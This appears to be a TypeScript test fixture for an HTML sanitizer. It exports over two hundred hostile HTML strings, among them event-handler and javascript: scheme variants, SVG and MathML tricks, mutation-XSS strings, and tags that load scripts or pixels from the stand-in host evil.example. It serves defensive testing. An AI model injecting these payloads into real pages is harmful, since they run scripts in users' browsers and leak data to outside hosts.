/** What it takes to notice that something ran: `ran()` is put into the page by the test. */
const RUN = 'ran()'
const EVIL = 'https://evil.example'

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
]
const tags = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'marquee',
  'p',
  'a href="#"',
  'iframe',
]
const schemes = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  'java\tscript:ran()',
  'java\nscript:ran()',
  ' javascript:ran()',
  '\u0001javascript:ran()',
  'javascript&colon;ran()',
  '&#106;avascript:ran()',
  'vbscript:ran()',
  'data:text/html,<script>ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=ran()>',
  'view-source:javascript:ran()',
  'blob:ran()',
  'filesystem:ran()',
]
const carriers = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<img src="${address}">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<svg><a xlink:href="${address}"><text y="9">x</text></a></svg>`,
  (address: string) => `<form action="${address}"><button>x</button></form>`,
]

const drawn = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
]
// Harmless to whoever cleans it, and something else when a browser reads it a second time.
const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><a title="</title><img src=x onerror=${RUN}>"></title>`,
  `<style><a title="</style><img src=x onerror=${RUN}>"></style>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${RUN}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}></style></mglyph></form></mtext></math></form>`,
  `<p id="</p><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<?xml <img src=x onerror=${RUN}> ?>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="/media/a.png" alt="&quot;><script>${RUN}</script>">`,
  `<img src='x' onerror\u000b=${RUN}>`,
  `<table><caption><a href="javascript:${RUN}">x</a></caption></table>`,
  `<template><img src=x onerror=${RUN}></template>`,
]
const loading = [
  `<style>@import "${EVIL}/x.css"; p { background: url(${EVIL}/p) }</style>`,
  `<p style="background:url(${EVIL}/s);position:fixed;inset:0">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="behavior:url(#x);-moz-binding:url(${EVIL}/b)">x</p>`,
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  `<link rel="prefetch" href="${EVIL}/x">`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<img src="${EVIL}/pixel.png">`,
  `<img src="//evil.example/pixel.png">`,
  `<img src="/\\evil.example/pixel.png">`,
  `<img src="/media/a.png" srcset="${EVIL}/pixel.png 2x">`,
  `<picture><source srcset="${EVIL}/pixel.png"><img src="/media/a.png"></picture>`,
  `<video poster="${EVIL}/p.png"><source src="${EVIL}/v.mp4"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<object data="${EVIL}/o"></object>`,
  `<embed src="${EVIL}/e">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<frameset><frame src="${EVIL}"></frameset>`,
  `<body background="${EVIL}/b.png">`,
  `<table background="${EVIL}/t.png"><td background="${EVIL}/d.png">x</table>`,
  `<input type="image" src="${EVIL}/i.png">`,
  `<script src="${EVIL}/s.js"></script>`,
  `<script type="module">${RUN}</script>`,
]

/** More than two hundred ways to get something to run, load or leave from a text that somebody stores. */
export const hostileHtml: string[] = [
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=${RUN}>x`)),
  ...schemes.flatMap((address) => carriers.map((carrier) => carrier(address))),
  ...drawn,
  ...mutating,
  ...loading,
]
